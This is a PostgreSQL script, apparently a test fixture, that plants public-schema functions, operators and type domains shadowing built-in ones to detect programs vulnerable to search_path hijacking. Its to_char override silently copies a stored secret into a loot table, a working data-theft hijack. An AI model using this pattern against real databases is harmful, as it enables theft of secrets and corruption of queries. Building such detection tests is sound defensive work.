-- What a role that may create in public can put in the way of a program that resolves names there: a function and an
-- operator of the same name and arguments as each built-in one, some that fit a call better than the built-in one, and
-- types of built-in names. Each gives itself away by an error (PXHIJ); to_char takes the draw's secret along.
create table public.loot (secret text);

create function public.hijacked(anyelement) returns void language plpgsql as
    $body$ begin raise exception 'hijacked' using errcode = 'PXHIJ'; end $body$;

create function public.to_char(date, text) returns text language plpgsql as $body$
begin
    insert into public.loot select pg_catalog.encode(secret, 'hex') from ingest.draw_secret;
    return pg_catalog.to_char($1::timestamp, $2);
end
$body$;

do $plant$
declare
    one record;
begin
    for one in
        select p.proname as name, oidvectortypes(p.proargtypes) as arguments, format_type(p.prorettype, null) as result
        from pg_proc as p
        where p.pronamespace = 'pg_catalog'::regnamespace and p.prokind = 'f' and not p.proretset and p.provariadic = 0
          and oidvectortypes(p.proargtypes) !~ '(internal|cstring|"any"|trigger|handler|pg_ddl)'
          and format_type(p.prorettype, null) !~ '(internal|cstring|trigger|handler|"any")'
    loop
        begin
            execute format('create function public.%I(%s) returns %s language plpgsql as
                            $$ begin raise exception ''hijacked'' using errcode = ''PXHIJ''; end $$',
                           one.name, one.arguments, one.result);
        exception when others then null; -- not each signature can be written in plpgsql
        end;
    end loop;
    for one in
        select o.oprname as name, p.proname as function, format_type(o.oprleft, null) as left_type,
               format_type(o.oprright, null) as right_type
        from pg_operator as o join pg_proc as p on p.oid = o.oprcode
        where o.oprnamespace = 'pg_catalog'::regnamespace and o.oprleft <> 0 and o.oprright <> 0
    loop
        begin
            execute format('create operator public.%s (function = public.%I, leftarg = %s, rightarg = %s)', one.name,
                           one.function, one.left_type, one.right_type);
        exception when others then null;
        end;
    end loop;
    foreach one.name in array array['text', 'date', 'uuid', 'bytea', 'json', 'jsonb', 'timestamptz', 'oid', 'regclass', 'int8',
                                    'int4', 'float8', 'name']
    loop
        execute format('create domain public.%I as pg_catalog.int2 check (value < 0)', one.name);
    end loop;
end
$plant$;
